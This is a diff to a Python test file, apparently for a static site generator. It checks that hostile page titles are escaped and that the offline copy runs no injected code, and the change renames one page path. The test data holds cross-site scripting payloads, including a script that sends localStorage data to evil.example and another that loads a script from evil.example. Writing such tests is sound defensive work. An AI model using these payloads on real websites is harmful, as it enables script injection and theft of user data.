@@ -27,12 +27,12 @@ HOSTILE = [
     REPO / "tests/cases/invalid/markup-in-titles/content",  # last: its titles win
 ]
 PAGES = ["", "faq/", "playbooks/", "playbooks/account-takeover/", "playbooks/withdrawal-locked/", "checklists/basics/",
-         "checklists/prevention-pack/", "guides/verify/", "platforms/demo/", "sources/", "myths/"]  # fmt: skip
+         "checklists/prevention-pack/", "guides/verify/", "demo/", "sources/", "myths/"]  # fmt: skip
 TITLES = {
     "playbooks/withdrawal-locked/": "Paused</title><script>fetch('https://evil.example/'+localStorage.x)</script>",
     "checklists/basics/": "Basics <img src=x onerror=alert(document.domain)>",
     "guides/verify/": "Verify </title ><svg/onload=alert(document.domain)>",
-    "platforms/demo/": "Demo</title><script src=//evil.example/x.js></script>: official resources",
+    "demo/": "Demo</title><script src=//evil.example/x.js></script>: official resources",
 }
 """Pages whose own title is hostile, and that title as the reader must see it."""
 INJECTED = """() => [...document.querySelectorAll('script, svg[onload], img[onerror], iframe')]
@@ -112,7 +112,7 @@ def test_the_printed_checklist_shows_the_hostile_title_as_text(hostile_site: str
 
 
 @pytest.mark.parametrize("name", ["index.html", "playbooks/withdrawal-locked.html", "checklists/basics.html", "guides/verify.html",
-                                  "platforms/demo.html", "faq.html", "evidence.html"])  # fmt: skip
+                                  "demo.html", "faq.html", "evidence.html"])  # fmt: skip
 def test_the_offline_copy_runs_no_injected_code(browser, hostile_site: str, hostile_project: Path, tmp_path: Path, name: str) -> None:
     with zipfile.ZipFile(hostile_project / "site" / OFFLINE_ZIP) as bundle:
         bundle.extractall(tmp_path)
